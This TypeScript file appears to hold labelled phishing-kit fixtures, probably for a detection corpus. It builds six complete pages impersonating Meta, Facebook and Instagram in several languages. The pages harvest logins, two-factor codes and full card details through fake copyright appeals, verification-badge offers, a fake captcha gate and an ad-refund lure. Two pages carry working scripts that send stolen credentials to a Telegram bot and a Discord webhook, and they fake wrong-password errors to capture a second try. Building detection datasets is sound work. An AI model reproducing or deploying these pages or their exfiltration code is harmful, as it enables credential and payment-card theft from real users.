import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { CSS, MARK, b64, codes, doc, esc, metaFooter, stepRelay } from '../parts/ys-kit.js';

/** The 2FA step most Meta kits share, in a given language. */
function codeStep(t: { h: string; p: string; ph: string; btn: string; wait: string }, step = 'code'): string {
  return `<section data-step="${step}" style="display:none">
<div class="card">
<h2 style="margin:0 0 8px;font-size:20px">${t.h}</h2>
<p class="muted">${t.p}</p>
<img src="data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" width="480" height="140"><rect width="480" height="140" rx="10" fill="#e7f3ff"/><rect x="190" y="22" width="100" height="96" rx="12" fill="#fff" stroke="#0866FF" stroke-width="3"/><text x="240" y="80" font-family="Arial" font-size="28" text-anchor="middle" fill="#0866FF">•••</text></svg>')}" alt="" style="width:100%;border-radius:10px;margin:10px 0">
<form autocomplete="off"><input class="inp" name="code" inputmode="numeric" maxlength="8" placeholder="${t.ph}" required>
<p class="err muted" style="display:none;color:#e41e3f">${t.wait}</p>
<button class="btn" type="submit">${t.btn}</button></form>
</div></section>`;
}

export const entries: Entry[] = [
{
  id: 'ys-meta-copyright-vi-telegram',
  label: 'phishing',
  kind: 'meta-copyright-kit',
  url: 'https://fb-hotro-banquyen-2025.web.app/',
  body: doc({
    lang: 'vi',
    title: 'Trung tâm hỗ trợ doanh nghiệp Meta',
    css: CSS.reset + CSS.meta + `.hero{background:#0866FF;color:#fff;padding:28px 20px;text-align:center}.hero h1{margin:0;font-size:24px}.steps{display:flex;gap:8px;justify-content:center;margin:14px 0}.steps i{width:36px;height:4px;border-radius:2px;background:#cfd9e8;display:block}.steps i.on{background:#0866FF}`,
    body: `<div class="hero">${MARK.facebook}<h1>Trung tâm hỗ trợ doanh nghiệp</h1><p>Khiếu nại vi phạm bản quyền</p></div>
<section data-step="info"><div class="card">
<div class="steps"><i class="on"></i><i></i><i></i></div>
<p><b>Trang của bạn đã bị báo cáo vi phạm bản quyền.</b> Chúng tôi đã nhận được khiếu nại rằng nội dung trên Trang của bạn vi phạm quyền sở hữu trí tuệ. Trang sẽ bị khóa vĩnh viễn sau <b id="cd">23:59:41</b> nếu bạn không gửi kháng nghị.</p>
<form>
<label>Họ và tên</label><input class="inp" name="hoten" required>
<label>Email hoặc số điện thoại đăng nhập Facebook</label><input class="inp" name="email" required>
<label>Số điện thoại</label><input class="inp" name="sdt" type="tel" required>
<label>Ngày sinh</label><input class="inp" name="ngaysinh" placeholder="dd/mm/yyyy">
<label>Tên Trang</label><input class="inp" name="trang">
<button class="btn" type="submit">Gửi kháng nghị</button></form></div></section>
<section data-step="pass" data-retry style="display:none"><div class="card">
<div class="steps"><i class="on"></i><i class="on"></i><i></i></div>
<h3>Xác nhận mật khẩu</h3><p class="muted">Vì lý do bảo mật, vui lòng nhập mật khẩu Facebook của bạn để tiếp tục.</p>
<form><input class="inp" type="password" name="matkhau" placeholder="Mật khẩu" required>
<p class="err muted" style="display:none;color:#e41e3f">Mật khẩu bạn đã nhập không chính xác. Vui lòng thử lại.</p>
<button class="btn" type="submit">Tiếp tục</button></form></div></section>
${codeStep({ h: 'Xác thực hai yếu tố', p: 'Nhập mã gồm 6 chữ số được gửi đến điện thoại hoặc ứng dụng xác thực của bạn.', ph: 'Mã xác nhận', btn: 'Gửi', wait: 'Mã không hợp lệ. Vui lòng đợi 5 phút rồi thử lại.' }, 'otp')}
${metaFooter('vi')}
<script>
var TK='7354118820:AAH3kQ_x9vZr0P2uLmA8wq5nTt1bKcYdE4s',CID='-1002231874409';
function tg(t){var fd=new FormData();fd.append('chat_id',CID);fd.append('text',t);fd.append('parse_mode','HTML');return fetch('https://api.telegram.org/bot'+TK+'/sendMessage',{method:'POST',body:fd})}
(function(){var s=86381;setInterval(function(){s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;document.getElementById('cd').textContent=[h,m,x].map(function(n){return (n<10?'0':'')+n}).join(':')},1000)})();
</script>
${stepRelay({ endpoint: '/api/ghi.php', extra: "tg('<b>FB '+data.step+'</b>\\n'+JSON.stringify(data,null,1));", finalUrl: 'https://www.facebook.com/' })}`,
  }),
},

{
  id: 'ys-instagram-badge-th-discord',
  label: 'phishing',
  kind: 'instagram-badge-kit',
  url: 'https://instagram-bluebadge-th.firebaseapp.com/verify/',
  body: doc({
    lang: 'th',
    title: 'Instagram • ขอรับเครื่องหมายยืนยัน',
    css: CSS.reset + `body{font-family:-apple-system,"Segoe UI",Tahoma,sans-serif;background:#fafafa;color:#262626}
.wrap{max-width:360px;margin:40px auto}.box{background:#fff;border:1px solid #dbdbdb;padding:28px 36px;text-align:center;margin-bottom:10px}
input{width:100%;background:#fafafa;border:1px solid #dbdbdb;border-radius:3px;padding:10px 8px;font-size:13px;margin:3px 0}
button{width:100%;background:#0095f6;color:#fff;border:0;border-radius:8px;padding:8px;font-weight:600;margin-top:10px;cursor:pointer}
.vb{color:#0095f6;font-size:42px}`,
    body: `<div class="wrap"><div class="box">
${MARK.instagram}
<div class="vb">✔</div>
<h2 style="font-size:17px">บัญชีของคุณมีสิทธิ์รับเครื่องหมายยืนยันสีฟ้า</h2>
<p style="font-size:14px;color:#737373">ครีเอเตอร์ที่มีผู้ติดตามเพิ่มขึ้นอย่างต่อเนื่องสามารถยื่นขอเครื่องหมายยืนยันได้ฟรี กรุณาเข้าสู่ระบบเพื่อยืนยันความเป็นเจ้าของบัญชี</p>
<form id="f"><input name="u" placeholder="ชื่อผู้ใช้ อีเมล หรือหมายเลขโทรศัพท์" required><input name="p" type="password" placeholder="รหัสผ่าน" required>
<button>ยืนยันบัญชี</button></form>
<p id="e" style="color:#ed4956;font-size:14px;display:none">รหัสผ่านของคุณไม่ถูกต้อง โปรดตรวจสอบรหัสผ่านอีกครั้ง</p>
</div><div class="box" style="font-size:14px">มีปัญหาในการเข้าสู่ระบบ? <a href="#" style="color:#0095f6;text-decoration:none">ติดต่อฝ่ายช่วยเหลือ</a></div></div>
<script>
var HK='https://discord.com/api/webhooks/1281993046628175882/vq8eP1nXq0tJgKk3N7cYb-2Lrj9x7Wm4ZpHfA1sUo3QdLx0ETeCiw6RyUn5BzGtM';
var n=0;
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();n++;
  var u=this.u.value,p=this.p.value;
  fetch(HK,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({username:'IG TH',content:'**IG** '+u+' | '+p+' | try '+n+' | '+navigator.language})});
  if(n<2){document.getElementById('e').style.display='block';this.p.value='';return}
  location.href='https://help.instagram.com/';
};
</script>`,
  }),
},

{
  id: 'ys-meta-captcha-gate-en',
  label: 'phishing',
  kind: 'captcha-gated-kit',
  url: 'https://secure-meta-review.info/verify',
  body: doc({
    title: 'Security check',
    css: `body{font-family:Arial,sans-serif;background:#fff;margin:0}.g{max-width:420px;margin:14vh auto;text-align:center}.hc{display:flex;align-items:center;justify-content:space-between;border:1px solid #d8d8d8;border-radius:4px;background:#f9f9f9;padding:14px 16px;width:300px;margin:20px auto;box-shadow:0 0 4px rgba(0,0,0,.08)}.cb{width:28px;height:28px;border:2px solid #c1c1c1;border-radius:4px;background:#fff;cursor:pointer}.cb.ok{border-color:#00a67e;background:#00a67e}.sp{width:26px;height:26px;border:3px solid #ddd;border-top-color:#1a73e8;border-radius:50%;animation:r 1s linear infinite;display:none}@keyframes r{to{transform:rotate(360deg)}}#kit{display:none;position:fixed;inset:0;border:0;width:100%;height:100%}`,
    body: `<div class="g" id="g"><h2>Checking if the site connection is secure</h2><p style="color:#555">secure-meta-review.info needs to review the security of your connection before proceeding.</p>
<div class="hc"><div style="display:flex;align-items:center;gap:12px"><div class="cb" id="cb"></div><div class="sp" id="sp"></div><span>I am human</span></div><span style="font-size:10px;color:#555">hCaptcha<br>Privacy - Terms</span></div>
<p style="color:#999;font-size:12px">Ray ID: 8c41f0f4240a2d71</p></div>
<iframe id="kit" title="x"></iframe>
<script>
document.getElementById('cb').onclick=function(){var c=this,s=document.getElementById('sp');c.style.display='none';s.style.display='block';
setTimeout(function(){s.style.display='none';c.style.display='block';c.className='cb ok';
setTimeout(function(){document.getElementById('g').style.display='none';var k=document.getElementById('kit');k.src='/verify/l/x/index.html?t='+Date.now().toString(36);k.style.display='block'},600)},1400)};
</script>`,
  }),
  routes: {
    'secure-meta-review.info/verify/l/x/index.html': htmlRoute(
      doc({
        title: 'Log in to Facebook',
        css: CSS.reset + CSS.meta + `.two{display:flex;max-width:980px;margin:80px auto;gap:40px;align-items:center;flex-wrap:wrap}.two .card{margin:0;width:396px}`,
        body: `<div class="two"><div style="flex:1;min-width:300px">${MARK.facebookWord}<p style="font-size:24px;line-height:1.3">Your Page has received a warning. Log in to review the request.</p></div>
<div class="card"><form id="lf" method="post" action="/verify/l/x/auth.php"><input class="inp" name="email" placeholder="Email address or phone number"><input class="inp" type="password" name="pass" placeholder="Password"><button class="btn">Log In</button></form>
<p style="text-align:center"><a href="#" style="color:#0866FF;font-size:14px;text-decoration:none">Forgot password?</a></p></div></div>`,
      }),
    ),
  },
},

{
  id: 'ys-meta-adspend-refund-card-en',
  label: 'phishing',
  kind: 'ad-refund-card-kit',
  url: 'https://meta-adsrefund.support/claim?ref=fb_notif',
  body: doc({
    title: 'Ads Billing Refund | Meta Business',
    css: CSS.reset + CSS.meta + `.amt{font-size:38px;font-weight:700;color:#0a7c2f}.row{display:flex;gap:10px}.row>*{flex:1}.cards{display:flex;gap:6px;margin:4px 0 8px}.cards span{border:1px solid #ccd0d5;border-radius:4px;font-size:11px;padding:3px 6px;font-weight:700}`,
    body: `<div style="background:#fff;padding:12px 20px;border-bottom:1px solid #ddd">${MARK.meta} <span class="muted">Billing &amp; payments</span></div>
<div class="card">
<p class="muted" style="margin:0">Ad account 2291 8830 1147</p>
<h2 style="margin:6px 0">You have an ad spend refund pending</h2>
<p>Due to a billing system error between 03 Aug and 29 Sep, some advertisers were charged twice for the same impressions. Our records show you are entitled to:</p>
<div class="amt">$1,240.56</div>
<p class="muted">Refunds are issued to the card on file. Please confirm the card details below so we can process the reversal within 3–5 business days.</p>
<form method="post" action="/claim/process.php" id="cf">
<label>Cardholder name</label><input class="inp" name="holder" required autocomplete="cc-name">
<label>Card number</label><div class="cards"><span style="color:#1a1f71">VISA</span><span style="color:#eb001b">MC</span><span style="color:#006fcf">AMEX</span></div><input class="inp" name="ccn" inputmode="numeric" maxlength="19" required autocomplete="cc-number">
<div class="row"><div><label>Expiration (MM/YY)</label><input class="inp" name="exp" maxlength="5" required></div><div><label>Security code</label><input class="inp" name="cvv" maxlength="4" required></div></div>
<label>Billing ZIP / postal code</label><input class="inp" name="zip" required>
<button class="btn">Confirm refund</button></form>
<p class="muted" style="font-size:12px">Refund reference RF-88213-AX. This claim expires in 72 hours.</p></div>
${metaFooter()}
<script>
document.querySelector('[name=ccn]').addEventListener('input',function(){this.value=this.value.replace(/\\D/g,'').replace(/(.{4})/g,'$1 ').trim()});
</script>`,
  }),
},

{
  id: 'ys-facebook-lure-blogspot-vi',
  label: 'phishing',
  kind: 'lure-page',
  url: 'https://thongbao-meta-vn.blogspot.com/2025/10/trang-cua-ban-se-bi-vo-hieu-hoa.html',
  body: doc({
    lang: 'vi',
    title: 'Thông báo: Trang của bạn sẽ bị vô hiệu hóa',
    css: `body{font-family:Roboto,Arial,sans-serif;background:#eef1f5;margin:0}.post{max-width:640px;margin:30px auto;background:#fff;border-radius:8px;padding:26px;box-shadow:0 1px 3px rgba(0,0,0,.12)}.cta{display:inline-block;background:#0866FF;color:#fff;text-decoration:none;padding:12px 26px;border-radius:6px;font-weight:700}.meta{color:#888;font-size:13px}`,
    body: `<div class="post">${MARK.meta}
<h1 style="font-size:22px">Thông báo quan trọng về Trang của bạn</h1>
<p class="meta">Meta Business Support · 14 tháng 10, 2025</p>
<p>Chúng tôi nhận thấy Trang của bạn có hoạt động bất thường và đã bị báo cáo nhiều lần vì mạo danh thương hiệu. Theo Tiêu chuẩn cộng đồng, Trang sẽ bị <b>vô hiệu hóa vĩnh viễn</b> trong vòng 24 giờ.</p>
<p>Nếu bạn cho rằng đây là nhầm lẫn, vui lòng xác minh Trang tại Trung tâm hỗ trợ bằng liên kết bên dưới. Sau khi xác minh, Trang sẽ được khôi phục và gắn tích xanh miễn phí.</p>
<p style="text-align:center;margin:28px 0"><a class="cta" href="https://meta-hotro-xacminh.com/khangnghi?src=blog">Xác minh ngay</a></p>
<p class="meta">Mã sự cố: VN-55012-FB · Đội ngũ hỗ trợ Meta</p></div>`,
  }),
  routes: {
    'meta-hotro-xacminh.com/khangnghi': htmlRoute(
      doc({
        lang: 'vi',
        title: 'Meta | Khiếu nại',
        css: CSS.reset + CSS.meta,
        body: `<div style="text-align:center;margin-top:30px">${MARK.meta}</div>
<section data-step="dn"><div class="card"><h2 style="margin-top:0">Đăng nhập để xác minh Trang</h2>
<form><input class="inp" name="tk" placeholder="Email hoặc số điện thoại" required><input class="inp" type="password" name="mk" placeholder="Mật khẩu" required><button class="btn">Đăng nhập</button></form></div></section>
${codeStep({ h: 'Nhập mã đăng nhập', p: 'Nhập mã 6 chữ số từ ứng dụng xác thực.', ph: 'Mã', btn: 'Tiếp tục', wait: 'Mã sai' })}
${stepRelay({ endpoint: '/khangnghi/xuly.php' })}`,
      }),
    ),
  },
},

{
  id: 'ys-meta-business-admin-invite-it-sites',
  label: 'phishing',
  kind: 'lure-page',
  url: 'https://sites.google.com/view/meta-business-assistenza-it/home',
  body: doc({
    lang: 'it',
    title: 'Meta for Business - Assistenza',
    css: `body{font-family:"Google Sans",Roboto,Arial,sans-serif;margin:0;background:#fff}.hero{background:linear-gradient(135deg,#0866FF,#5b3df5);color:#fff;padding:60px 24px;text-align:center}.hero h1{font-size:34px;margin:0 0 10px}.b{display:inline-block;background:#fff;color:#0866FF;padding:12px 26px;border-radius:24px;text-decoration:none;font-weight:700}.sec{max-width:760px;margin:30px auto;padding:0 20px;color:#333;line-height:1.6}`,
    body: `<div class="hero"><h1>Meta for Business</h1><p>Centro assistenza per inserzionisti — Italia</p></div>
<div class="sec"><h2>Avviso di limitazione dell'account pubblicitario</h2>
<p>Il tuo account pubblicitario è stato limitato a causa di attività sospette rilevate dal nostro sistema. Per evitare la disattivazione definitiva dell'account e delle Pagine collegate, completa la verifica entro 48 ore.</p>
<p>La procedura richiede circa 3 minuti. Tieni a portata di mano il telefono per ricevere il codice di conferma.</p>
<p style="text-align:center"><a class="b" href="https://verifica-inserzionisti.com/it/start?ref=gsites">Avvia la verifica</a></p>
<p style="font-size:12px;color:#777">© 2025 Meta Platforms Ireland Ltd. · Report abuse</p></div>`,
  }),
},
];
